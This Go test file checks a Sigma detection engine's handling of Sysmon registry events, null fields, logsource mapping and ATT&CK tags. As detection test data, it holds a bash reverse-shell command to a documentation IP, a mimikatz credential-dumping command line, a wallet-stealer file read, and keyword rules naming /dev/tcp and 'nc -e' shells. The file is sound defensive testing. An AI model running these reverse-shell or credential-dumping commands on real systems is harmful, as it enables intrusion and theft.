package sigma

import (
	"github.com/spoor-dev/spoor/internal/event"
	"testing"
)

// matchBoth evaluates c on e alone and through a Set; both must agree.
func matchBoth(t *testing.T, c *Compiled, e *event.Event) bool {
	t.Helper()
	direct := c.Match(NewDoc(e))
	viaSet := false
	NewSet([]*Compiled{c}).Match(NewDoc(e), func(*Compiled) { viaSet = true })
	if direct != viaSet {
		t.Errorf("Match says %v, the Set says %v", direct, viaSet)
	}
	return direct
}

// Sysmon event 12 is both "key created" and "key or value deleted": its
// EventType tells which, and registry_add/registry_delete must read it.
func TestRegistryEventTypes(t *testing.T) {
	ev := func(typ string) *event.Event {
		raw := `{"RuleName":"-","UtcTime":"2024-05-01 10:00:00.000","ProcessId":"4242","Image":"C:\\Windows\\regedit.exe",` +
			`"TargetObject":"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\updater"`
		if typ != "" {
			raw += `,"EventType":"` + typ + `"`
		}
		return sysmonEvent(12, raw+"}")
	}
	det := "sel:\n  TargetObject|contains: '\\CurrentVersion\\Run'\ncondition: sel"
	for _, tc := range []struct {
		category, eventType string
		want                bool
	}{
		{"registry_delete", "CreateKey", false},
		{"registry_delete", "DeleteKey", true},
		{"registry_delete", "DeleteValue", true},
		{"registry_delete", "", false}, // no EventType: cannot tell a delete
		{"registry_add", "CreateKey", true},
		{"registry_add", "DeleteKey", false},
		{"registry_add", "DeleteValue", false},
		{"registry_event", "CreateKey", true},
		{"registry_event", "DeleteKey", true},
		{"registry_event", "", true},
	} {
		c, err := compileDetection(t, "product: windows\ncategory: "+tc.category, det)
		if err != nil {
			t.Fatalf("%s: %v", tc.category, err)
		}
		if got := matchBoth(t, c, ev(tc.eventType)); got != tc.want {
			t.Errorf("%s rule on a Sysmon 12 with EventType %q: matched %v, want %v", tc.category, tc.eventType, got, tc.want)
		}
	}
	// Event 13 is always SetValue, 14 always RenameKey: no EventType needed.
	c, err := compileDetection(t, "product: windows\ncategory: registry_set", det)
	if err != nil {
		t.Fatal(err)
	}
	if !matchBoth(t, c, sysmonEvent(13, `{"TargetObject":"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x"}`)) {
		t.Errorf("registry_set rule silent on a Sysmon 13 without EventType")
	}
}

// Sigma's null is "absent or empty": EVTX writes fields it has no value
// for as empty Data elements, which land in raw as "".
func TestNullMatchesAbsentAndEmpty(t *testing.T) {
	det := "sel:\n  Image|endswith: '\\cmd.exe'\n  OriginalFileName: null\ncondition: sel"
	c, err := compileDetection(t, procCreation, det)
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name, raw string
		want      bool
	}{
		{"absent", `{"Image":"C:\\Windows\\System32\\cmd.exe"}`, true},
		{"empty", `{"Image":"C:\\Windows\\System32\\cmd.exe","OriginalFileName":""}`, true},
		{"JSON null", `{"Image":"C:\\Windows\\System32\\cmd.exe","OriginalFileName":null}`, true},
		{"a value", `{"Image":"C:\\Windows\\System32\\cmd.exe","OriginalFileName":"Cmd.Exe"}`, false},
	} {
		if got := matchBoth(t, c, sysmonEvent(1, tc.raw)); got != tc.want {
			t.Errorf("OriginalFileName: null on %s: matched %v, want %v", tc.name, got, tc.want)
		}
	}
	// "not null" (a filter on null) is "present with a value".
	c, err = compileDetection(t, procCreation, "sel:\n  Image|endswith: '\\cmd.exe'\nfilter:\n  OriginalFileName: null\ncondition: sel and not filter")
	if err != nil {
		t.Fatal(err)
	}
	if matchBoth(t, c, sysmonEvent(1, `{"Image":"C:\\Windows\\System32\\cmd.exe","OriginalFileName":""}`)) {
		t.Errorf("not null matched an empty field")
	}
	if !matchBoth(t, c, sysmonEvent(1, `{"Image":"C:\\Windows\\System32\\cmd.exe","OriginalFileName":"Cmd.Exe"}`)) {
		t.Errorf("not null missed a field with a value")
	}
	// exists: false stays "absent": an empty field exists.
	c, err = compileDetection(t, procCreation, "sel:\n  OriginalFileName|exists: false\ncondition: sel")
	if err != nil {
		t.Fatal(err)
	}
	if matchBoth(t, c, sysmonEvent(1, `{"OriginalFileName":""}`)) {
		t.Errorf("exists: false matched a present, empty field")
	}
}

// Logsources SigmaHQ rules use that spoor maps onto what it stores:
// keywords on any Linux or Windows log, Windows file_access (Security
// 4663), Linux LogonId (auditd's auid).
func TestMappedLogsources(t *testing.T) {
	shell := auditEvent(
		`type=SYSCALL msg=audit(1.2:3): arch=c000003e syscall=59 success=yes exit=0 ppid=1 auid=0 exe="/usr/bin/bash"`,
		`type=EXECVE msg=audit(1.2:3): argc=3 a0="bash" a1="-c" a2="bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"`,
	)
	shell.SetInt(event.AUID, 0)
	shell.SetString(event.User, "root")
	shell.SetString(event.CWD, "/var/opt/microsoft/scx/tmp")
	fileRead := func(object, objectType string) *event.Event {
		e := &event.Event{}
		e.SetString(event.EventType, "winsec")
		e.SetInt(event.WinEventID, 4663)
		e.SetString(event.Channel, "Security")
		e.SetString(event.Exe, `C:\Users\bob\AppData\Local\Temp\stealer.exe`)
		e.Raw = []byte(`{"ObjectType":"` + objectType + `","ObjectName":"` + object + `","ProcessName":"C:\\Users\\bob\\AppData\\Local\\Temp\\stealer.exe"}`)
		return e
	}
	mimi := sysmonEvent(1, `{"Image":"C:\\Users\\bob\\m.exe","CommandLine":"m.exe privilege::debug sekurlsa::logonpasswords exit"}`)
	const wallet = `C:\\Users\\bob\\AppData\\Roaming\\Bitcoin\\wallet.dat`
	for _, tc := range []struct {
		name, ls, det string
		e             *event.Event
		want          bool
	}{
		{"linux keywords", "product: linux", "keywords:\n  - 'bash -i >& /dev/tcp/'\ncondition: keywords", shell, true},
		{"linux keywords, other text", "product: linux", "keywords:\n  - 'nc -e /bin/sh'\ncondition: keywords", shell, false},
		{"linux keywords skip Windows", "product: linux", "keywords:\n  - 'sekurlsa::'\ncondition: keywords", mimi, false},
		{"windows keywords", "product: windows", "keywords:\n  - 'sekurlsa::'\ncondition: keywords", mimi, true},
		{"windows keywords skip Linux", "product: windows", "keywords:\n  - '/dev/tcp/'\ncondition: keywords", shell, false},
		{"file_access on 4663", "product: windows\ncategory: file_access", "sel:\n  FileName|endswith: '\\wallet.dat'\n  Image|contains: '\\Temp\\'\ncondition: sel", fileRead(wallet, "File"), true},
		{"file_access, not a file", "product: windows\ncategory: file_access", "sel:\n  FileName|endswith: '\\wallet.dat'\ncondition: sel", fileRead(wallet, "Key"), false},
		{"linux LogonId is auid", "product: linux\ncategory: process_creation", "sel:\n  User: root\n  LogonId: 0\n  CurrentDirectory: '/var/opt/microsoft/scx/tmp'\ncondition: sel", shell, true},
		{"linux LogonId differs", "product: linux\ncategory: process_creation", "sel:\n  LogonId: 1000\ncondition: sel", shell, false},
	} {
		c, err := compileDetection(t, tc.ls, tc.det)
		if err != nil {
			t.Errorf("%s: %v", tc.name, err)
			continue
		}
		if got := matchBoth(t, c, tc.e); got != tc.want {
			t.Errorf("%s: matched %v, want %v", tc.name, got, tc.want)
		}
	}
}

func TestTechniqueFromTags(t *testing.T) {
	for _, tc := range []struct {
		tags []string
		want string
	}{
		{[]string{"attack.credential-access", "attack.t1003.001", "attack.t1003"}, "T1003.001"},
		{[]string{"attack.execution", "attack.T1059"}, "T1059"},
		{[]string{"attack.g0016", "attack.s0002", "car.2013-07-001"}, ""},
		{[]string{"attack.t10"}, ""},
		{nil, ""},
	} {
		if got := (&Rule{Tags: tc.tags}).Technique(); got != tc.want {
			t.Errorf("tags %v: technique %q, want %q", tc.tags, got, tc.want)
		}
	}
}
